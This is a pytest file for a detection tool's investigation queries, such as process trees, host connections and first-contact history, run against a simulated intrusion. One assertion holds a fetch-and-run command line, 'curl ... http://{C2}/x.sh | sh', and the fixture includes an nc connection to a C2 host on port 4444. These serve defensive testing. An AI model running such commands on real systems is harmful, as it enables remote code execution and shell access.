"""Named queries against a real SqliteStore seeded with a realistic intrusion."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from agents.schema import get_path
from collector.models import Alert
from collector.store.sqlite import SqliteStore
from playbooks.model import QueryStep
from playbooks.queries import EventsResult, ProcessTreeResult, run_query
from tests.playbooks.conftest import C2, HOST, make_alert, proc


def tree(
    store: SqliteStore, alert: Alert, *, window: str = "10m", depth: int = 8
) -> ProcessTreeResult:
    minutes = int(window.rstrip("m"))
    step = QueryStep(
        id="t",
        query="process_tree",
        window=timedelta(minutes=minutes),
        window_text=window,
        max_depth=depth,
    )
    result = run_query(step, alert, store)
    assert isinstance(result, ProcessTreeResult)
    return result


def events_query(store: SqliteStore, alert: Alert, query: str, window: timedelta) -> EventsResult:
    step = QueryStep(id="q", query=query, window=window)  # type: ignore[arg-type]
    result = run_query(step, alert, store)
    assert isinstance(result, EventsResult)
    return result


def test_process_tree_walks_ancestors_and_descendants(seeded: tuple[SqliteStore, Alert]) -> None:
    store, alert = seeded
    result = tree(store, alert)
    shape = [(n.depth, n.pid, n.name, n.relation) for n in result.nodes]
    assert shape == [
        (0, 812, "sshd", "ancestor"),  # not recorded: inferred from sshd(2000)'s parent fields
        (1, 2000, "sshd", "ancestor"),
        (2, 2001, "bash", "ancestor"),
        (3, 2002, "sh", "alert"),
        (4, 2003, "curl", "descendant"),
        (4, 2004, "sh", "descendant"),
        (5, 2005, "nc", "descendant"),
    ]
    assert result.nodes[0].event_id is None
    assert result.nodes[0].start is None
    assert all(n.event_id for n in result.nodes[1:])
    assert result.nodes[3].command_line == f"sh -c curl -fsSL http://{C2}/x.sh | sh"
    assert result.nodes[3].user == "tanaka"
    assert result.host == HOST
    assert not result.truncated
    summary = result.summary()
    assert summary["counts"] == {"ancestors": 3, "alert_processes": 1, "descendants": 3}


def test_process_tree_ignores_pid_reuse_other_hosts_and_late_children(
    seeded: tuple[SqliteStore, Alert], events: dict[str, dict[str, Any]]
) -> None:
    store, alert = seeded
    ids = set(tree(store, alert).event_ids)
    for name in ("old_2002", "other_host", "late", "cron"):
        assert get_path(events[name], "event.id") not in ids, name


def test_process_tree_depth_is_bounded(seeded: tuple[SqliteStore, Alert]) -> None:
    store, alert = seeded
    result = tree(store, alert, depth=1)
    assert [(n.pid, n.relation) for n in result.nodes] == [
        (2001, "ancestor"),
        (2002, "alert"),
        (2003, "descendant"),
        (2004, "descendant"),
    ]


def test_process_tree_from_a_connection_alert(
    seeded: tuple[SqliteStore, Alert], events: dict[str, dict[str, Any]]
) -> None:
    store, _ = seeded
    alert = make_alert(events["nc_conn"], alert_id="al-nc")
    result = tree(store, alert)
    alert_nodes = [n for n in result.nodes if n.relation == "alert"]
    assert [n.pid for n in alert_nodes] == [2005]
    # the start event of nc was found, so the ancestors reach up to the ssh session
    assert [n.pid for n in result.nodes] == [812, 2000, 2001, 2002, 2004, 2005]


def test_host_connections_window_and_summary(seeded: tuple[SqliteStore, Alert]) -> None:
    store, alert = seeded
    result = events_query(store, alert, "host_connections", timedelta(minutes=10))
    assert result.counts() == {"network_connection": 3}
    summary = result.summary()
    assert summary["destinations"] == {f"{C2}:80": 1, f"{C2}:4444": 1, "10.0.0.53:53": 1}
    assert all(get_path(ev, "host.name") == HOST for ev in result.events)


def test_host_events_covers_every_kind_in_the_window(seeded: tuple[SqliteStore, Alert]) -> None:
    store, alert = seeded
    result = events_query(store, alert, "host_events", timedelta(minutes=5))
    assert result.counts() == {"process_start": 5, "network_connection": 3}
    times = [ev["@timestamp"] for ev in result.events]
    assert times == sorted(times)


def test_destination_history_finds_the_first_contact(
    seeded: tuple[SqliteStore, Alert], events: dict[str, dict[str, Any]]
) -> None:
    store, alert = seeded
    result = events_query(store, alert, "destination_history", timedelta(days=30))
    assert result.destinations == (C2,)  # what the alert's processes contacted
    assert result.event_ids == (get_path(events["first_contact"], "event.id"),)
    assert result.summary()["prior_contacts"] == {C2: 1}
    short = events_query(store, alert, "destination_history", timedelta(days=1))
    assert short.events == ()
    assert short.summary()["prior_contacts"] == {C2: 0}


def test_queries_fall_back_to_the_alert_when_its_events_are_gone(
    seeded: tuple[SqliteStore, Alert], events: dict[str, dict[str, Any]]
) -> None:
    store, _ = seeded
    for ids in ((), ("no-such-event",)):
        alert = make_alert(events["alert"], alert_id="al-x", event_ids=ids)
        assert tree(store, alert).nodes == ()
        conns = events_query(store, alert, "host_connections", timedelta(minutes=10))
        assert conns.counts() == {"network_connection": 3}


def test_children_of_a_later_process_reusing_a_pid_are_not_adopted(
    seeded: tuple[SqliteStore, Alert],
) -> None:
    store, alert = seeded
    store.write_events(
        [
            proc(3, 2004, 1, "/usr/sbin/logrotate", "logrotate", user="root"),  # pid 2004 reused
            proc(4, 2010, 2004, "/usr/bin/gzip", "gzip -9 syslog.1", user="root"),
        ]
    )
    names = [n.name for n in tree(store, alert).nodes]
    assert names == ["sshd", "sshd", "bash", "sh", "curl", "sh", "nc"]
